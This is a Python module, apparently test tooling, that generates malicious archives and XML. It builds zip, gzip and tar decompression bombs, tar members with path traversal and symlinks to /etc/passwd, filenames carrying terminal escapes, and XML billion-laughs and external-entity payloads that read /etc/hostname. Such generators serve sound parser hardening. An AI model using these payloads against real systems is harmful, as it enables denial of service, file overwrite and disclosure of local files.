"""Archives and XML made to swell, to nest without end, or to lead elsewhere; each is small and made in a moment."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Sequence

ZEROS = bytes(2**20)
WORDS = b"Arua."
NAMES = ("../../up.txt", "/etc/abs.txt", "a\n\x1b[2Jb.txt", "\u202etxt.exe.txt", "n" * 4000 + ".txt", "C:\\x\\y.txt")
"""Names of members that lead out, or that a terminal would obey."""


def zipped(members: Sequence[tuple[str, bytes | str | int]]) -> bytes:
    """Return a ZIP archive; a number stands for so many megabytes of nothing."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            if not isinstance(data, int):
                archive.writestr(name, data)
                continue
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(data):
                    file.write(ZEROS)
    return buffer.getvalue()


def _packed(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _forged_zip(*, members: int, said: int) -> bytes:
    """Return an archive whose members all are the same bytes, of a megabyte, and say to be of another size."""
    data, name = _packed(ZEROS), b"a.txt"
    sizes = zlib.crc32(ZEROS), len(data), said
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, *sizes, len(name), 0) + name + data
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, 0)
    directory = (entry + name) * members
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(directory), len(local), 0)
    return local + directory + end


def overlapping_zip() -> bytes:
    """Return an archive of 5,000 members that are the same bytes: 5 GB from 300 kB."""
    return _forged_zip(members=5_000, said=len(ZEROS))


def lying_zip() -> bytes:
    """Return an archive whose member says that it is a thousandth of its size."""
    return _forged_zip(members=1, said=1000)


def gzipped(megabytes: int) -> bytes:
    """Return nothing, compressed by gzip a thousandfold."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(ZEROS) for _ in range(megabytes)) + packer.flush()


def tarred(fill: Callable[[tarfile.TarFile], object], mode: str = "w:") -> bytes:
    """Return a TAR archive that a function fills."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        fill(archive)
    return buffer.getvalue()


def _add(archive: tarfile.TarFile, name: str, data: bytes = WORDS, **pax: str) -> None:
    member = tarfile.TarInfo(name)
    member.size, member.pax_headers = len(data), pax
    archive.addfile(member, io.BytesIO(data))


def tar_bomb(kind: str) -> bytes:
    """Return an archive of 60 MB of nothing between two small files."""

    def fill(archive: tarfile.TarFile) -> None:
        _add(archive, "first.txt")
        _add(archive, "a.txt", ZEROS * 60)
        _add(archive, "last.txt")

    return tarred(fill, f"w:{kind}")


def sparse_tar(size: int) -> bytes:
    """Return an archive whose first member says that it is of that size, with holes."""
    sparse = {"major": "1", "minor": "0", "name": "s.txt", "realsize": str(size)}

    def fill(archive: tarfile.TarFile) -> None:
        body = b"1\n0\n512\n".ljust(512, b"\0") + b"x" * 512
        _add(archive, "s.txt", body, **{f"GNU.sparse.{key}": value for key, value in sparse.items()})
        _add(archive, "last.txt")

    return tarred(fill)


def leading_tar() -> bytes:
    """Return an archive of links, devices and a pipe, and of files whose names lead out of it."""

    def fill(archive: tarfile.TarFile) -> None:
        for name, kind, target in (
            ("soft.txt", tarfile.SYMTYPE, "/etc/passwd"),
            ("hard.txt", tarfile.LNKTYPE, "../../etc/passwd"),
            ("self.txt", tarfile.LNKTYPE, "self.txt"),
            ("null.txt", tarfile.CHRTYPE, ""),
            ("disk.txt", tarfile.BLKTYPE, ""),
            ("pipe.txt", tarfile.FIFOTYPE, ""),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, target
            archive.addfile(member)
        for name in NAMES:
            _add(archive, name)

    return tarred(fill)


def long_name_bomb() -> bytes:
    """Return an archive whose first name is of 3 GB, of which 40 MB come."""
    member = tarfile.TarInfo("x")
    member.type, member.size = tarfile.GNUTYPE_LONGNAME, 3 << 30
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = packer.compress(member.tobuf(tarfile.GNU_FORMAT))
    return data + b"".join(packer.compress(ZEROS) for _ in range(40)) + packer.flush()


def nested(kind: str, levels: int) -> bytes:
    """Return a file packed again and again."""
    data = WORDS
    for level in range(levels):
        name = f"{level}.{kind}" if level else "a.txt"
        if kind == "zip":
            data = zipped([(name, data)])
        elif kind == "gz":
            data = gzip.compress(data, 1)
        else:
            inner = data
            data = tarred(lambda archive, name=name, inner=inner: _add(archive, name, inner), "w:gz")  # type: ignore[misc]
    return data


def entities(kind: str, address: str) -> tuple[str, str]:
    """Return a declaration of entities, and the text that asks for them.

    Args:
        kind: `laughs` (each stands for ten of the one before), `quadratic` (a long one, often), or `external`.
        address: Where an external one lies.
    """
    if kind == "laughs":
        pairs = zip("abcdefgh", "bcdefghi", strict=True)
        steps = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairs)
        return f'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{steps}]>', "&i;"
    if kind == "quadratic":
        return f'<!DOCTYPE x [<!ENTITY a "{"A" * 50_000}">]>', "&a;" * 5_000
    lines = f'<!ENTITY a SYSTEM "{address}/a"><!ENTITY b SYSTEM "file:///etc/hostname">'
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{address}/i" parse="text"/>'
    return f'<!DOCTYPE x SYSTEM "{address}/x.dtd" [{lines}]>', f"&a;&b;{include}"


def xml(opening: str, closing: str, *, kind: str, address: str) -> bytes:
    """Return an XML file with such entities, and a word after them."""
    declared, asked = entities(kind, address)
    return f'<?xml version="1.0"?>{declared}{opening}{asked} Arua is dry.{closing}'.encode()
